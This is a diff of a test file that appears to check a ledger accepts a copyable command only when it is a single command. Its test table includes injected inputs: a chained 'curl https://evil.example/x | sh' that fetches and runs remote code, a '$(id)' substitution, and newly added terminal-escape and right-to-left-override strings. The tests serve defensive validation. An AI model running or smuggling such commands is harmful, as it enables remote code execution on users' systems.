@@ -28,6 +28,8 @@ describe('a ledger', () => {
     ["apply plans --accept 'a; b' --yes", true],
     ['apply plans --yes; curl https://evil.example/x | sh #', false],
     ["apply 'plans' $(id)", false],
+    ["apply 'plans \u001b[2J'", false],
+    ["apply 'plans \u202e'", false],
   ])('has a command to copy only where it is one command: %s', (command, isOne) => {
     const [entry] = readLedger(written({ ...begin(), command } as LedgerEntry));
     expect(entry).toHaveProperty('command', isOne ? command : undefined);
